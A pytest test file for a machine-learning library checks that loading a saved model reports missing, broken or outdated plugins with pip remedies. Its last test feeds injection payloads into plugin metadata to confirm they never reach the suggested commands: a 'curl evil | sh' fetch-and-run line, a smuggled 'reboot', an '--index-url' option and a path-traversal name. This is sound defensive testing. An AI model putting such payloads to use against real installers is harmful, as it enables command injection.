"""A model is loaded where its plugins are missing, broken or too old: one error names them all."""

from __future__ import annotations

import json
import shutil

import numpy as np
import pandas as pd
import pytest

from mm_core import MultiModalPredictor
from mm_core.api import ArtifactError, PluginLoadError
from mm_core.artifact.load import load
from mm_core.plugins import Registry

BACKBONE = ("backbones", "tabular", "id")
PROCESSOR = ("inputs", "tabular", "processor", "id")
TASK = ("task", "id")
INFO = """
@hookimpl
def mm_plugin_info():
    return PluginInfo(api=(2, 0), summary="a fixture")
"""


@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    """A model of a table, saved with the plugins that are installed."""
    frame = pd.DataFrame({"x": np.arange(30.0), "y": ["a", "b"] * 15})
    folder = tmp_path_factory.mktemp("needs") / "model"
    predictor = MultiModalPredictor("y", hyperparameters={"training.epochs": 1}, verbosity=0)
    predictor.fit(frame).save(folder)
    return folder


@pytest.fixture
def model(saved, tmp_path, site):
    """A copy of it; plugins may be installed and removed around it."""
    return shutil.copytree(saved, tmp_path / "model")


def record(name, distribution=None, version=None, sha256=None):
    return {"name": name, "distribution": distribution, "version": version, "sha256": sha256}


def alter(model, components=(), records=(), **values):
    """The model as if it had been saved with these components, plugins and versions."""
    file = model / "mm_model.json"
    data = json.loads(file.read_text())
    for keys, value in dict(components).items():
        place = data["recipe"]
        for key in keys[:-1]:
            place = place[key]
        place[keys[-1]] = value
    names = {one["name"] for one in records}
    data["plugins"] = [one for one in data["plugins"] if one["name"] not in names] + list(records)
    file.write_text(json.dumps(data | values))


def refused(model, registry=None):
    with pytest.raises(ArtifactError) as caught:
        load(model, registry or Registry())
    return caught.value


def test_missing_third_party_plugin_is_named_by_its_distribution(model):
    alter(model, {BACKBONE: "points:linear"}, [record("points", "geo-tools", "1.4.2")])
    error = refused(model)
    assert error.plugin == "points"
    assert error.value == ["points:linear"]
    assert error.remedy == "pip install 'geo-tools>=1.4.2'"
    assert error.message == (
        "the model needs what is not here:\n"
        "    plugin 'points', which gives points:linear, is not installed; "
        "the model was saved with geo-tools 1.4.2"
    )


def test_missing_known_plugin_without_a_record_has_its_install_line(model, far):
    alter(model, {PROCESSOR: "far:reader"})
    error = refused(model)
    assert (error.plugin, error.value) == ("far", ["far:reader"])
    assert error.remedy == "pip install mm-far"


def test_a_modality_alone_is_a_need(model):
    file = model / "mm_model.json"
    data = json.loads(file.read_text())
    data["recipe"]["schema"]["columns"][0]["modality"] = "points:point"
    data["plugins"].append(record("points", "mm-points", "1.0"))
    file.write_text(json.dumps(data))
    error = refused(model)
    assert (error.plugin, error.value) == ("points", ["points:point"])
    assert error.remedy == "pip install 'mm-points>=1.0'"


def test_plugin_older_than_the_saved_one_is_refused(model, install):
    install("points", INFO, version="1.9")
    alter(model, {BACKBONE: "points:linear"}, [record("points", "mm-points", "1.10")])
    error = refused(model)
    assert (error.plugin, error.value) == ("points", ["points:linear"])
    assert error.remedy == "pip install 'mm-points>=1.10'"
    assert "mm-points 1.9 is older than the 1.10" in error.message


def test_core_older_than_the_saved_one_is_refused(model):
    alter(model, mm_core="99.1")
    error = refused(model)
    assert (error.plugin, error.value) == ("core", ["core:network", "core:binary"])
    assert error.remedy == "pip install 'mm-core>=99.1'"


@pytest.mark.parametrize("saved_with", ["0.0.1", "0.1.0", "0.1.0+local.3", "0.1.0.dev3", "odd"])
def test_newer_equal_and_incomparable_versions_load(model, saved_with):
    records = [record("tabular", "mm-tabular", saved_with), record("core", "mm-core", saved_with)]
    alter(model, records=records, mm_core=saved_with)
    assert load(model, Registry()).model.recipe.task.id == "core:binary"


def test_another_distribution_of_that_name_is_not_compared(model):
    alter(model, records=[record("tabular", "tables-of-others", "7.0")])
    assert load(model, Registry()).manifest.plugins


def test_broken_plugin_tells_its_cause_and_remedy(model, install):
    install("points", "import module_that_is_not_there_42")
    alter(model, {BACKBONE: "points:linear"}, [record("points", "mm-points", "1.2")])
    error = refused(model)
    assert (error.plugin, error.value) == ("points", ["points:linear"])
    assert "No module named 'module_that_is_not_there_42'" in error.message
    assert error.remedy == (
        "pip install --upgrade --force-reinstall mm-points; "
        "or go on without it: MM_DISABLE_PLUGINS=points"
    )


def test_file_that_was_not_given(model):
    alter(model, {BACKBONE: "my_head:net"}, [record("my_head", sha256="ab" * 32)])
    error = refused(model)
    assert (error.plugin, error.value) == ("my_head", ["my_head:net"])
    assert error.remedy == (
        "give the same file, of sha256 abababababab...: "
        "plugins=['my_head.py'] (--plugin my_head.py)"
    )


def test_file_that_was_edited(model, tmp_path):
    (tmp_path / "my_head.py").write_text("from mm_core.api import *\n" + INFO)
    alter(model, {BACKBONE: "my_head:net"}, [record("my_head", sha256="ab" * 32)])
    error = refused(model, Registry(local=[tmp_path / "my_head.py"]))
    assert (error.plugin, error.value) == ("my_head", ["my_head:net"])
    assert "not the one the model was made with" in error.message
    assert "abababababab" in error.remedy


def test_plugin_that_is_switched_off(model, monkeypatch):
    monkeypatch.setenv("MM_DISABLE_PLUGINS", "tabular")
    error = refused(model)
    assert error.plugin == "tabular"
    assert error.value == ["tabular:tabular", "tabular:table", "tabular:mlp"]
    assert error.remedy == "see MM_PLUGINS and MM_DISABLE_PLUGINS"


def test_component_that_its_plugin_no_longer_has(model):
    alter(model, {BACKBONE: "tabular:mlpp"})
    error = refused(model)
    assert (error.plugin, error.value) == ("tabular", ["tabular:mlpp"])
    assert error.remedy == "did you mean 'tabular:mlp'?"


def test_everything_at_once_with_one_line_for_pip(model, install):
    install("geo", INFO, distribution="geo-tools", version="1.9")
    install("wreck", "raise RuntimeError('on the rocks')", version="2.0")
    alter(
        model,
        {
            ("schema", "columns"): [
                {
                    "name": "x",
                    "modality": "geo:point",
                    "kind": "point",
                    "score": 1.0,
                    "reason": "",
                    "origin": "user",
                }
            ],
            PROCESSOR: "my_cells:reader",
            BACKBONE: "wreck:net",
            TASK: "survival:cox",
        },
        [
            record("geo", "geo-tools", "2.0"),
            record("my_cells", sha256="cd" * 32),
            record("survival", "Survival.Kit", "0.3.1+cpu"),
            record("tabular", "mm-tabular", "55"),
            record("wreck", "mm-wreck", "2.0"),
        ],
        mm_core="99.0",
    )
    error = refused(model)
    assert error.plugin == "core"
    assert error.value == [
        "core:network",
        "geo:point",
        "my_cells:reader",
        "survival:cox",
        "tabular",
        "wreck:net",
    ]
    pip, *others = error.remedy.split("; ")
    assert pip == (
        "pip install 'mm-core>=99.0' 'geo-tools>=2.0' 'Survival.Kit>=0.3.1' 'mm-tabular>=55'"
    )
    assert others == [
        "give the same file, of sha256 cdcdcdcdcdcd...: "
        "plugins=['my_cells.py'] (--plugin my_cells.py)",
        "pip install --upgrade --force-reinstall mm-wreck",
        "or go on without it: MM_DISABLE_PLUGINS=wreck",
    ]
    assert "RuntimeError: on the rocks" in error.message
    assert len(error.message.splitlines()) == 7


def test_a_broken_file_is_told_together_with_what_is_missing(model, tmp_path):
    (tmp_path / "my_head.py").write_text("1 / 0")
    alter(
        model,
        {PROCESSOR: "points:reader", BACKBONE: "my_head:net"},
        [record("points", "mm-points", "1.0"), record("my_head", sha256="ab" * 32)],
    )
    with pytest.raises(ArtifactError) as caught:
        MultiModalPredictor.load(model, plugins=[tmp_path / "my_head.py"])
    assert caught.value.value == ["my_head:net", "points:reader"]
    assert "ZeroDivisionError" in caught.value.message
    assert caught.value.remedy == (
        f"pip install 'mm-points>=1.0'; correct {(tmp_path / 'my_head.py').resolve()}"
    )


def test_a_broken_file_that_the_model_does_not_need_is_told_too(model, tmp_path):
    (tmp_path / "my_head.py").write_text("1 / 0")
    with pytest.raises(PluginLoadError) as caught:
        MultiModalPredictor.load(model, plugins=[tmp_path / "my_head.py"])
    assert caught.value.plugin == "my_head"


@pytest.mark.parametrize(
    ("name", "distribution", "version"),
    [
        ("points", "x; curl evil | sh", "1.0"),
        ("points", "--index-url=evil", "1.0"),
        ("points", "mm-points\n", "1.0"),
        ("points", "mm-points", "1.0'; reboot '"),
        ("../points", "mm-points", "1.0"),
    ],
)
def test_nothing_harmful_gets_into_lines_to_type(model, name, distribution, version):
    alter(model, records=[record(name, distribution, version)])
    error = refused(model)
    assert "damaged" in error.message
    assert error.value.startswith("plugins.")
